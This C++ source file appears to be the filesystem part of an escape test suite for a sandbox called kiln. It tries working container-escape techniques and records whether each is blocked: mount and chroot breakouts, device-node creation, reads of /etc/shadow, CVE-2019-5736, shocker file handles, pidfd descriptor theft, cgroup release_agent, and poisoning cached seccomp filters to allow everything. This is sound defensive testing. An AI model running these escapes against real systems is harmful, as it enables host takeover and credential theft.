// Filesystem attacks: mounts, chroot, device nodes, files the sandbox must
// not read or write, the supervisor's binary (CVE-2019-5736), setuid
// binaries, file handles (shocker), leaked descriptors, full tmpfs mounts,
// cgroup and sysfs knobs.
#include <dirent.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>

#include "tests/escape/attack.h"

namespace kiln::attack {

namespace {

// --- mounts --------------------------------------------------------------

void Mount(const Args&, Verdict& v) {
  mkdir("/tmp/kiln-mnt", 0755);
  KILN_TRY(v, "mount(tmpfs, /tmp)", mount("tmpfs", "/tmp", "tmpfs", 0, "size=1m"));
  KILN_TRY(v, "mount(/usr, /tmp/kiln-mnt, MS_BIND)",
           mount("/usr", "/tmp/kiln-mnt", nullptr, MS_BIND, nullptr));
  KILN_TRY(v, "mount(/usr, MS_REMOUNT|MS_BIND) read-write",
           mount(nullptr, "/usr", nullptr, MS_REMOUNT | MS_BIND, nullptr));
  KILN_TRY(v, "mount(/attack, MS_REMOUNT|MS_BIND) read-write",
           mount(nullptr, "/attack", nullptr, MS_REMOUNT | MS_BIND, nullptr));
  KILN_TRY(v, "mount(proc, /tmp/kiln-mnt) without masks",
           mount("proc", "/tmp/kiln-mnt", "proc", 0, nullptr));
  KILN_TRY(v, "mount(/, MS_SHARED|MS_REC)",
           mount(nullptr, "/", nullptr, MS_SHARED | MS_REC, nullptr));
  // The new mount API reaches the same places by other calls.
  KILN_TRY(v, "fsopen(tmpfs)", syscall(SYS_fsopen, "tmpfs", 0));
  KILN_TRY(v, "open_tree(/usr, OPEN_TREE_CLONE)",
           syscall(SYS_open_tree, AT_FDCWD, "/usr", OPEN_TREE_CLONE));
  KILN_TRY(v, "fspick(/usr)", syscall(SYS_fspick, AT_FDCWD, "/usr", 0));
  mount_attr attr{};
  attr.attr_clr = MOUNT_ATTR_RDONLY;
  KILN_TRY(v, "mount_setattr(/usr, clear MOUNT_ATTR_RDONLY)",
           syscall(SYS_mount_setattr, AT_FDCWD, "/usr", 0, &attr, sizeof attr));
  KILN_TRY(v, "move_mount(/usr, /tmp/kiln-mnt)",
           syscall(SYS_move_mount, AT_FDCWD, "/usr", AT_FDCWD, "/tmp/kiln-mnt", 0));
  struct statvfs st {};
  if (statvfs("/usr", &st) == 0 && !(st.f_flag & ST_RDONLY))
    v.Escaped("/usr is writable afterwards");
}

void Umount(const Args&, Verdict& v) {
  // Each of these would unmask something: /proc/sys read-write, /proc/keys,
  // the host's firmware tables, or the image under /usr.
  for (const char* target :
       {"/proc/sys", "/proc/keys", "/proc/acpi", "/sys/firmware", "/usr", "/attack", "/proc"}) {
    KILN_TRY(v, std::string("umount2(") + target + ", MNT_DETACH)", umount2(target, MNT_DETACH));
  }
  KILN_TRY(v, "umount2(/, MNT_DETACH)", umount2("/", MNT_DETACH));
  struct statvfs st {};
  if (statvfs("/proc/sys", &st) == 0 && !(st.f_flag & ST_RDONLY))
    v.Escaped("/proc/sys is writable afterwards");
}

void Chroot(const Args&, Verdict& v) {
  struct stat before {};
  stat("/", &before);
  mkdir("/tmp/kiln-jail", 0755);
  mkdir("/tmp/kiln-jail/old", 0755);
  // The classic: chroot deeper while keeping the cwd outside, then walk up.
  if (chdir("/tmp") == 0) {
    KILN_TRY(v, "chroot(/tmp/kiln-jail)", chroot("/tmp/kiln-jail"));
    for (int i = 0; i < 64; ++i) (void)!chdir("..");
    KILN_TRY(v, "chroot(.) after walking up", chroot("."));
  }
  KILN_TRY(v, "pivot_root(/tmp/kiln-jail, /tmp/kiln-jail/old)",
           syscall(SYS_pivot_root, "/tmp/kiln-jail", "/tmp/kiln-jail/old"));
  struct stat after {};
  if (stat("/", &after) == 0 && (after.st_ino != before.st_ino || after.st_dev != before.st_dev)) {
    v.Escaped("the root directory changed");
  }
}

// --- device nodes --------------------------------------------------------

void Mknod(const Args&, Verdict& v) {
  // The host's root disk: the device the host's /usr lives on.
  struct stat usr {};
  if (stat("/usr", &usr) != 0) return v.Error(Errno("stat(/usr)", errno));
  const dev_t disk = usr.st_dev;
  char disk_name[64];
  std::snprintf(disk_name, sizeof disk_name, "block %u:%u", major(disk), minor(disk));
  struct Node {
    const char* path;
    mode_t mode;
    dev_t dev;
    std::string what;
  } nodes[] = {
      {"/tmp/kiln-disk", S_IFBLK | 0666, disk, disk_name},
      {"/dev/shm/kiln-disk", S_IFBLK | 0666, disk, disk_name},
      {"/tmp/kiln-mem", S_IFCHR | 0666, makedev(1, 1), "char 1:1 (/dev/mem)"},
      {"/tmp/kiln-kmsg", S_IFCHR | 0666, makedev(1, 11), "char 1:11 (/dev/kmsg)"},
  };
  for (const Node& n : nodes) {
    std::string step = std::string("mknod(") + n.path + ", " + n.what + ")";
    errno = 0;
    int rc = mknod(n.path, n.mode, n.dev);
    int err = errno;
    if (rc != 0) {
      v.Blocked(step, err);
      continue;
    }
    // Created: nodev must still stop it from being opened.
    int fd = open(n.path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
      v.Blocked(step + " then open", errno);
      continue;
    }
    char buf[512];
    ssize_t got = read(fd, buf, sizeof buf);
    close(fd);
    v.Escaped(step + " and read " + std::to_string(got) + " bytes from it");
  }
}

// --- files ---------------------------------------------------------------

void ReadFiles(const Args& paths, Verdict& v) {
  if (paths.empty()) return v.Error("no paths given");
  for (const std::string& p : paths) {
    std::string data;
    if (!ReadSome(p, &data)) {
      v.Blocked("open(" + p + ")", errno);
    } else if (data.empty()) {
      v.Blocked("read(" + p + ")", "empty");
    } else {
      v.Escaped("read " + std::to_string(data.size()) + " bytes of " + p);
    }
  }
}

void Shadow(const Args&, Verdict& v) {
  // The image's /etc is a filtered copy; the host's is reachable only
  // through another process's root or a handle (see shocker).
  ReadFiles({"/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/proc/1/root/etc/shadow",
             "/proc/1/cwd/etc/shadow", "/proc/self/root/etc/shadow", "/attack/../etc/shadow"},
            v);
}

void ImageWrite(const Args& args, Verdict& v) {
  // Run as inside root: the image is owned by host root, which is not mapped.
  const std::string name = args.empty() ? "kiln-escape" : args[0];
  KILN_TRY(v, "open(/etc/passwd, O_WRONLY|O_APPEND)",
           open("/etc/passwd", O_WRONLY | O_APPEND | O_CLOEXEC));
  KILN_TRY(v, "creat(/etc/" + name + ")",
           open(("/etc/" + name).c_str(), O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
  KILN_TRY(v, "creat(/usr/bin/" + name + ")",
           open(("/usr/bin/" + name).c_str(), O_CREAT | O_WRONLY | O_CLOEXEC, 0755));
  KILN_TRY(v, "creat(/attack/" + name + ")",
           open(("/attack/" + name).c_str(), O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
  KILN_TRY(v, "chmod(/etc/passwd, 0666)", chmod("/etc/passwd", 0666));
  KILN_TRY(v, "chown(/etc, 0, 0)", chown("/etc", 0, 0));
  KILN_TRY(v, "unlink(/etc/passwd)", unlink("/etc/passwd"));
  KILN_TRY(v, "rename(/etc/passwd, /tmp/passwd)", rename("/etc/passwd", "/tmp/passwd"));
  KILN_TRY(v, "setxattr(/etc, trusted.overlay.opaque)",
           setxattr("/etc", "trusted.overlay.opaque", "y", 1, 0));
  KILN_TRY(v, "truncate(/usr/bin/sh, 0)", truncate("/usr/bin/sh", 0));
}

// --- the supervisor's binary (CVE-2019-5736) -----------------------------

// Opens `path` for writing; if that works, writes back the bytes already
// there, so that a successful attack changes the mtime but not the content.
void OverwriteExe(const std::string& path, Verdict& v) {
  char target[4096] = "?";
  ssize_t n = readlink(path.c_str(), target, sizeof target - 1);
  if (n >= 0) target[n] = '\0';
  errno = 0;
  int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC);
  int err = errno;
  if (fd < 0) {
    v.Blocked("open(" + path + " -> " + target + ", O_WRONLY)", err);
  } else {
    char head[16];
    int rd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    ssize_t got = rd >= 0 ? pread(rd, head, sizeof head, 0) : -1;
    if (got > 0) (void)!pwrite(fd, head, static_cast<size_t>(got), 0);
    if (rd >= 0) close(rd);
    close(fd);
    v.Escaped("opened " + path + " (" + target + ") for writing");
  }
  // runc's fix was about the O_PATH reopen: the magic link must not hand out
  // a writable file either.
  int opath = open(path.c_str(), O_PATH | O_CLOEXEC);
  if (opath < 0) {
    v.Blocked("open(" + path + ", O_PATH)", errno);
    return;
  }
  std::string via = "/proc/self/fd/" + std::to_string(opath);
  errno = 0;
  int w = open(via.c_str(), O_WRONLY | O_CLOEXEC);
  err = errno;
  if (w >= 0) {
    close(w);
    v.Escaped("reopened " + path + " via " + via + " for writing");
  } else {
    v.Blocked("reopen(" + path + " via O_PATH fd, O_WRONLY)", err);
  }
  close(opath);
}

void ExecInitBinary(void*) {
  // Running the supervisor's binary is the first step of the runc exploit.
  char* argv[] = {const_cast<char*>("kiln"), const_cast<char*>("--version"), nullptr};
  execv("/proc/1/exe", argv);
  std::printf("%d\n", errno);
}

void ProcExe(const Args&, Verdict& v) {
  OverwriteExe("/proc/self/exe", v);
  for (int pid : VisiblePids()) {
    if (pid == getpid()) continue;
    OverwriteExe("/proc/" + std::to_string(pid) + "/exe", v);
  }
  std::string out;
  int st = InChild(ExecInitBinary, nullptr, &out);
  int err = std::atoi(out.c_str());
  if (err > 0) {
    v.Blocked("execve(/proc/1/exe)", err);
  } else {
    v.Escaped("execve(/proc/1/exe) ran the supervisor's binary (status " + std::to_string(st) +
              ")");
  }
  DIR* d = opendir("/proc/1/map_files");
  if (d != nullptr) {
    closedir(d);
    v.Escaped("opened /proc/1/map_files");
  } else {
    v.Blocked("opendir(/proc/1/map_files)", errno);
  }
  KILN_TRY(v, "open(/attack/kiln-attack, O_WRONLY)",
           open("/attack/kiln-attack", O_WRONLY | O_CLOEXEC));
}

// --- setuid binaries -----------------------------------------------------

// Not an attack: what a setuid binary gained, printed by that binary.
void ProbeIds(const Args&, Verdict&) {
  uid_t r, e, s;
  gid_t rg, eg, sg;
  getresuid(&r, &e, &s);
  getresgid(&rg, &eg, &sg);
  __user_cap_header_struct hdr{_LINUX_CAPABILITY_VERSION_3, 0};
  __user_cap_data_struct data[2] = {};
  syscall(SYS_capget, &hdr, data);
  unsigned long long eff =
      data[0].effective | (static_cast<unsigned long long>(data[1].effective) << 32);
  unsigned long long prm =
      data[0].permitted | (static_cast<unsigned long long>(data[1].permitted) << 32);
  int setuid0 = setresuid(0, 0, 0) == 0 ? 0 : errno;
  std::printf("ids %u %u %u %u %u %u %llx %llx %d\n", r, e, s, rg, eg, sg, eff, prm, setuid0);
  std::fflush(stdout);
  _exit(0);
}

struct ExecCtx {
  const char* path;
};

void ExecProbe(void* ctx) {
  const char* path = static_cast<ExecCtx*>(ctx)->path;
  char* argv[] = {const_cast<char*>(path), const_cast<char*>("probe-ids"), nullptr};
  execv(path, argv);
  std::printf("exec-failed %d\n", errno);
}

void Setuid(const Args& paths, Verdict& v) {
  if (paths.empty()) return v.Error("no setuid binaries given");
  const uid_t uid = getuid();
  const gid_t gid = getgid();
  for (const std::string& p : paths) {
    struct stat st {};
    if (stat(p.c_str(), &st) != 0) {
      v.Error(Errno("stat(" + p + ")", errno));
      continue;
    }
    ExecCtx ctx{p.c_str()};
    std::string out;
    InChild(ExecProbe, &ctx, &out);
    unsigned r, e, s, rg, eg, sg;
    unsigned long long eff, prm;
    int setuid0;
    int exec_err;
    char desc[160];
    std::snprintf(desc, sizeof desc, "exec(%s, mode %o, owner %u:%u)", p.c_str(),
                  st.st_mode & 07777, st.st_uid, st.st_gid);
    if (std::sscanf(out.c_str(), "exec-failed %d", &exec_err) == 1) {
      v.Blocked(desc, exec_err);
    } else if (std::sscanf(out.c_str(), "ids %u %u %u %u %u %u %llx %llx %d", &r, &e, &s, &rg, &eg,
                           &sg, &eff, &prm, &setuid0) != 9) {
      v.Error(std::string(desc) + ": unexpected output: " + out);
    } else if (e != uid || s != uid || eg != gid || sg != gid || eff != 0 || prm != 0 ||
               setuid0 == 0) {
      v.Escaped(std::string(desc) + " gave " + out.substr(0, out.size() - 1));
    } else {
      v.Blocked(desc,
                "euid " + std::to_string(e) + ", egid " + std::to_string(eg) + ", no capabilities");
    }
  }
}

// --- file handles (shocker) ----------------------------------------------

void Shocker(const Args&, Verdict& v) {
  // /attack and /usr are binds of host filesystems; a handle for inode 2 (the
  // root of an ext* filesystem) opened through them is the host's "/".
  struct {
    file_handle fh;
    unsigned char bytes[MAX_HANDLE_SZ];
  } probe{}, crafted{};
  probe.fh.handle_bytes = MAX_HANDLE_SZ;
  int mount_id = 0;
  int type = 1;  // FILEID_INO32_GEN, what ext4 hands out
  if (name_to_handle_at(AT_FDCWD, "/attack", &probe.fh, &mount_id, 0) == 0) {
    type = probe.fh.handle_type;
    std::fprintf(stderr, "kiln-attack: /attack has handle type %d, %u bytes\n", type,
                 probe.fh.handle_bytes);
  }
  crafted.fh.handle_bytes = 8;
  crafted.fh.handle_type = type;
  const uint32_t ino_gen[2] = {2, 0};
  std::memcpy(crafted.fh.f_handle, ino_gen, sizeof ino_gen);
  for (const char* mnt : {"/attack", "/usr", "/"}) {
    int mfd = open(mnt, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mfd < 0) continue;
    std::string step = std::string("open_by_handle_at(") + mnt + ", inode 2)";
    errno = 0;
    int fd = open_by_handle_at(mfd, &crafted.fh, O_RDONLY | O_DIRECTORY);
    int err = errno;
    if (fd < 0) {
      v.Blocked(step, err);
    } else {
      int shadow = openat(fd, "etc/shadow", O_RDONLY | O_CLOEXEC);
      v.Escaped(step + " opened the host's root" + (shadow >= 0 ? " and its etc/shadow" : ""));
      if (shadow >= 0) close(shadow);
      close(fd);
    }
    // The handle of a file the sandbox may see, reopened by handle, is the
    // harmless case; it still needs CAP_DAC_READ_SEARCH.
    if (probe.fh.handle_bytes > 0 && std::strcmp(mnt, "/attack") == 0) {
      errno = 0;
      int same = open_by_handle_at(mfd, &probe.fh, O_RDONLY);
      err = errno;
      if (same >= 0) {
        close(same);
        v.Escaped("open_by_handle_at(/attack, its own handle) succeeded");
      } else {
        v.Blocked("open_by_handle_at(/attack, its own handle)", err);
      }
    }
    close(mfd);
  }
}

// --- leaked descriptors --------------------------------------------------

void LeakedFd(const Args& args, Verdict& v) {
  rlimit lim{};
  getrlimit(RLIMIT_NOFILE, &lim);
  int open_fds = 0;
  for (int fd = 3; fd < static_cast<int>(lim.rlim_cur); ++fd) {
    if (fcntl(fd, F_GETFD) < 0) continue;
    char target[4096] = "?";
    ssize_t n =
        readlink(("/proc/self/fd/" + std::to_string(fd)).c_str(), target, sizeof target - 1);
    if (n >= 0) target[n] = '\0';
    ++open_fds;
    v.Escaped("fd " + std::to_string(fd) + " is open: " + target);
    int shadow = openat(fd, "etc/shadow", O_RDONLY | O_CLOEXEC);
    if (shadow >= 0) {
      v.Escaped("read the host's etc/shadow through fd " + std::to_string(fd));
      close(shadow);
    }
  }
  for (size_t i = 0; i < args.size(); ++i) {
    int fd = static_cast<int>(ArgNumber(args, i, "fd"));
    struct stat st {};
    KILN_TRY(v, "fstat(leaked fd " + std::to_string(fd) + ")", fstat(fd, &st));
  }
  if (open_fds == 0) v.Blocked("scan of fds 3.." + std::to_string(lim.rlim_cur - 1), "none open");
  DIR* d = opendir("/proc/1/fd");
  if (d != nullptr) {
    closedir(d);
    v.Escaped("listed init's descriptors in /proc/1/fd");
  } else {
    v.Blocked("opendir(/proc/1/fd)", errno);
  }
  // Take init's descriptors (its end of the supervisor socket) by pidfd.
  int pidfd = static_cast<int>(syscall(SYS_pidfd_open, 1, 0));
  if (pidfd < 0) return v.Blocked("pidfd_open(1)", errno);
  for (int target = 0; target < 16; ++target) {
    errno = 0;
    long fd = syscall(SYS_pidfd_getfd, pidfd, target, 0);
    int err = errno;
    if (fd >= 0) {
      v.Escaped("pidfd_getfd(init, " + std::to_string(target) + ") succeeded");
    } else if (err != EBADF) {
      v.Blocked("pidfd_getfd(init, " + std::to_string(target) + ")", err);
      break;  // one answer is enough: the same check stops every number
    }
  }
  close(pidfd);
}

// --- filling size-limited mounts -----------------------------------------

void TmpfsFill(const Args& args, Verdict& v) {
  // Arguments: DIR=LIMIT_BYTES pairs.
  signal(SIGXFSZ, SIG_IGN);
  static char chunk[1 << 20];
  std::memset(chunk, 'k', sizeof chunk);
  for (const std::string& a : args) {
    size_t eq = a.find('=');
    if (eq == std::string::npos) return v.Error("expected DIR=LIMIT, got " + a);
    std::string dir = a.substr(0, eq);
    unsigned long long limit = std::strtoull(a.c_str() + eq + 1, nullptr, 0);
    std::string path = dir + "/kiln-fill";
    int fd = open(path.c_str(), O_CREAT | O_WRONLY | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0) {
      v.Error(Errno("open(" + path + ")", errno));
      continue;
    }
    unsigned long long total = 0;
    int err = 0;
    // Stop well past the limit: if it is not enforced, that is the escape.
    while (total < limit + (64ull << 20)) {
      ssize_t n = write(fd, chunk, sizeof chunk);
      if (n < 0 && errno == EINTR) continue;
      if (n <= 0) {
        err = n < 0 ? errno : ENOSPC;
        break;
      }
      total += static_cast<unsigned long long>(n);
    }
    close(fd);
    unlink(path.c_str());
    char what[160];
    std::snprintf(what, sizeof what, "write(%s) stopped after %.1f MiB (limit %.1f MiB)",
                  path.c_str(), static_cast<double>(total) / (1 << 20),
                  static_cast<double>(limit) / (1 << 20));
    if (err != 0 && total <= limit) {
      v.Blocked(what, err);
    } else {
      v.Escaped(what);
    }
  }
}

// --- cgroup and sysfs knobs ----------------------------------------------

void Cgroup(const Args&, Verdict& v) {
  // The cgroup namespace hides the sandbox's place in the host hierarchy.
  std::string own;
  if (ReadSome("/proc/self/cgroup", &own)) {
    size_t pos = 0;
    bool rooted = true;
    while (pos < own.size()) {
      size_t nl = own.find('\n', pos);
      std::string line = own.substr(pos, nl - pos);
      if (!line.empty() && line.substr(line.rfind(':') + 1) != "/") rooted = false;
      pos = nl == std::string::npos ? own.size() : nl + 1;
    }
    if (!rooted) v.Escaped("/proc/self/cgroup shows host paths: " + own);
  }
  WriteKnob("/sys/fs/cgroup/memory/memory.limit_in_bytes", "max", v);
  WriteKnob("/sys/fs/cgroup/pids/pids.max", "max", v);
  WriteKnob("/sys/fs/cgroup/cgroup.procs", "0", v);
  KILN_TRY(v, "mkdir(/sys/fs/cgroup/kiln-escape)", mkdir("/sys/fs/cgroup/kiln-escape", 0755));
  // CVE-2022-0492: mount a v1 hierarchy and set its release_agent.
  mkdir("/tmp/kiln-cg", 0755);
  for (const char* opts : {"memory", "pids", "rdma", "none,name=kiln"}) {
    errno = 0;
    int rc = mount("cgroup", "/tmp/kiln-cg", "cgroup", 0, opts);
    int err = errno;
    if (rc != 0) {
      v.Blocked(std::string("mount(cgroup, ") + opts + ")", err);
      continue;
    }
    v.Escaped(std::string("mounted cgroup v1 hierarchy ") + opts);
    WriteKnob("/tmp/kiln-cg/release_agent", "/attack/kiln-attack", v);
    umount2("/tmp/kiln-cg", MNT_DETACH);
  }
  KILN_TRY(v, "mount(cgroup2)", mount("cgroup2", "/tmp/kiln-cg", "cgroup2", 0, nullptr));
}

void Sysfs(const Args&, Verdict& v) {
  // Host-global knobs. Values the test restores if a write ever gets through.
  WriteKnob("/sys/kernel/mm/transparent_hugepage/enabled", "never", v);
  WriteKnob("/sys/kernel/uevent_helper", "/attack/kiln-attack", v);
  WriteKnob("/sys/class/net/lo/mtu", "1280", v);
  WriteKnob("/sys/module/kernel/parameters/panic", "0", v);
  KILN_TRY(v, "mkdir(/sys/kernel/kiln-escape)", mkdir("/sys/kernel/kiln-escape", 0755));
}

// --- kiln's own state --------------------------------------------------

// Rewrites a cached seccomp program (kiln's filter cache: magic, then three
// length-prefixed blobs: identity, policy text, BPF) to allow everything,
// keeping what the cache checks. Returns what happened.
void PoisonFilter(const std::string& path, Verdict& v) {
  std::string data;
  if (!ReadSome(path, &data, 1 << 22)) return v.Blocked("read(" + path + ")", errno);
  if (data.compare(0, 8, "KILNBPF1") != 0) return v.Error(path + " is not a filter cache entry");
  std::string out = data.substr(0, 8);
  size_t off = 8;
  for (int i = 0; i < 3; ++i) {
    uint64_t n = 0;
    if (off + sizeof n > data.size()) return v.Error(path + " is truncated");
    std::memcpy(&n, data.data() + off, sizeof n);
    std::string blob = data.substr(off + sizeof n, n);
    off += sizeof n + n;
    if (i == 2) {
      const uint16_t code = 0x06;         // BPF_RET | BPF_K
      const uint32_t allow = 0x7fff0000;  // SECCOMP_RET_ALLOW
      blob.assign(8, '\0');
      std::memcpy(&blob[0], &code, sizeof code);
      std::memcpy(&blob[4], &allow, sizeof allow);
      n = blob.size();
    }
    out.append(reinterpret_cast<const char*>(&n), sizeof n);
    out += blob;
  }
  errno = 0;
  int fd = open(path.c_str(), O_WRONLY | O_TRUNC | O_CLOEXEC);
  int err = errno;
  if (fd < 0) return v.Blocked("open(" + path + ", O_WRONLY)", err);
  ssize_t n = write(fd, out.data(), out.size());
  err = errno;
  close(fd);
  if (n != static_cast<ssize_t>(out.size())) return v.Blocked("write(" + path + ")", err);
  v.Escaped("replaced the cached seccomp program " + path + " with allow-all");
}

void PoisonState(const Args& args, Verdict& v) {
  // Argument: where kiln's state directory is visible inside the sandbox.
  if (args.empty()) return v.Error("no state directory given");
  const std::string state = args[0];
  DIR* d = opendir((state + "/seccomp").c_str());
  if (d == nullptr) {
    v.Blocked("opendir(" + state + "/seccomp)", errno);
  } else {
    while (dirent* e = readdir(d)) {
      std::string name = e->d_name;
      if (name.size() > 4 && name.compare(name.size() - 4, 4, ".bpf") == 0)
        PoisonFilter(state + "/seccomp/" + name, v);
    }
    closedir(d);
  }
  // The host image is every later sandbox's lower layer.
  d = opendir((state + "/images").c_str());
  if (d == nullptr) return v.Blocked("opendir(" + state + "/images)", errno);
  while (dirent* e = readdir(d)) {
    if (e->d_name[0] == '.') continue;
    std::string passwd = state + "/images/" + e->d_name + "/etc/passwd";
    errno = 0;
    int fd = open(passwd.c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
    int err = errno;
    if (fd < 0) {
      v.Blocked("open(" + passwd + ", O_WRONLY)", err);
    } else {
      close(fd);
      v.Escaped("opened the cached host image's " + passwd + " for writing");
    }
  }
  closedir(d);
}

}  // namespace

void AddFsAttacks(std::vector<Attack>& out) {
  out.insert(out.end(), {
                            {"mount", Mount},
                            {"umount", Umount},
                            {"chroot", Chroot},
                            {"mknod", Mknod},
                            {"read-file", ReadFiles},
                            {"shadow", Shadow},
                            {"image-write", ImageWrite},
                            {"proc-exe", ProcExe},
                            {"setuid", Setuid},
                            {"probe-ids", ProbeIds},
                            {"shocker", Shocker},
                            {"leaked-fd", LeakedFd},
                            {"tmpfs-fill", TmpfsFill},
                            {"cgroup", Cgroup},
                            {"sysfs", Sysfs},
                            {"poison-state", PoisonState},
                        });
}

}  // namespace kiln::attack
